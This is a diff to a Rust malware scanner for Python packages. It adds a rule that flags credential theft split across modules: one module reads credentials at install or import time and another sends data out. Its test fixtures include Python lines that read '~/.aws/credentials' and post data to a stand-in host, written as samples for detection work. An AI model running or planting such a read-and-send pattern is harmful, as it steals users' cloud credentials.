@@ -26,7 +26,9 @@
 //!   block; 0.3 when the name is only built on the popular one, as honest wrappers' names are),
 //!   code that starts a compiled program shipped in the sdist (0.35), and a copy of a popular
 //!   project's module (WH301) whose requirements hold a lookalike (WH303), 0.35: the repackaged
-//!   SDK whose only change is a dependency swapped for a lookalike carrying the payload.
+//!   SDK whose only change is a dependency swapped for a lookalike carrying the payload; and a
+//!   credential or stealer-target read in one file with a network send in another, both in
+//!   install- or import-time code (0.5): a theft split by role across modules.
 //!
 //! **securityRisk** is the worst file's, raised to the package malware score; **obfuscated** is
 //! the worst file's. Every package contribution is returned as a [`Contribution`].
@@ -66,6 +68,11 @@ pub const PACKAGE_COMBINATIONS: &[Combination] = &[
         id: "combo:runs-shipped-binary",
         description: "code that starts a compiled program shipped in the source distribution",
         weight: 0.35,
+    },
+    Combination {
+        id: "combo:steal-and-send-across-files",
+        description: "credential or stealer-target access in one file and a network send in another, both in code that runs at install or import time",
+        weight: 0.5,
     },
 ];
 
@@ -149,6 +156,31 @@ fn surveillance_with_persistence(
     Some((watch, persist))
 }
 
+/// Malware split by role: one module collects credentials or a stealer's targets, another
+/// sends, and the package runs both while it installs or loads (`__init__` starting
+/// `_sync.run`, which hands what it read to `_gh.upload`). The file-level steal-and-send
+/// needs both in one file; libraries read such files and talk to servers when asked, not
+/// while loading.
+fn steal_and_send_across_files(
+    files: &[(FileAnalysis, FileScores)],
+) -> Option<(&Finding, &Finding)> {
+    let early = |f: &Finding| matches!(f.context, ExecContext::Install | ExecContext::Import);
+    let steal = strongest_in_files(files, |f| {
+        early(f)
+            && f.rule == "WH140"
+            && (f.has_tag("stealer-target") || f.has_tag("credential-file"))
+            && f.message.starts_with("reads ")
+            && f.severity >= 0.15
+    })?;
+    let send = strongest_in_files(files, |f| {
+        early(f)
+            && f.rule == "WH130"
+            && (f.has_tag("net-send") || f.has_tag("net-dns"))
+            && f.path != steal.path
+    })?;
+    Some((steal, send))
+}
+
 /// Scores a package from its analysed files and its package-level findings
 /// (`wheelhound_analysis::package_signals`).
 pub fn score_package(files: &[(FileAnalysis, FileScores)], signals: &[Finding]) -> PackageScores {
@@ -184,6 +216,7 @@ pub fn score_package(files: &[(FileAnalysis, FileScores)], signals: &[Finding]) 
                 .iter()
                 .filter(|f| f.rule == "WH302" && f.context != ExecContext::TestOrDocs)
                 .find_map(|binary| launch_of(files, binary).map(|launch| (binary, launch))),
+            "combo:steal-and-send-across-files" => steal_and_send_across_files(files),
             _ => None,
         };
         if let Some((signal, code)) = evidence {
@@ -397,6 +430,42 @@ mod tests {
                 .filter(|c| c.rule == "WH300" || c.rule == "WH301")
                 .count(),
             1
+        );
+    }
+
+    #[test]
+    fn a_theft_split_across_two_modules_that_run_while_loading() {
+        let reader = file(
+            "t-1/t/_collect.py",
+            "import os\ndata = open(os.path.expanduser('~/.aws/credentials')).read()\n",
+        );
+        let sender = file(
+            "t-1/t/_ship.py",
+            "import requests\nrequests.post('https://x.example.invalid/c', data={'d': 1})\n",
+        );
+        let reader_code =
+            "import os\ndata = open(os.path.expanduser('~/.aws/credentials')).read()\n";
+        let scores = score_package(&[reader, sender], &[]);
+        assert!(
+            scores
+                .contributions
+                .iter()
+                .any(|c| c.rule == "combo:steal-and-send-across-files"),
+            "{scores:?}"
+        );
+        // A client that sends when called, beside a module reading the same file on import,
+        // is what cloud SDKs look like.
+        let client = file(
+            "t-1/t/_ship.py",
+            "import requests\ndef ship(d):\n    requests.post('https://x.example.invalid/c', data=d)\n",
+        );
+        let scores = score_package(&[file("t-1/t/_collect.py", reader_code), client], &[]);
+        assert!(
+            !scores
+                .contributions
+                .iter()
+                .any(|c| c.rule == "combo:steal-and-send-across-files"),
+            "{scores:?}"
         );
     }
 
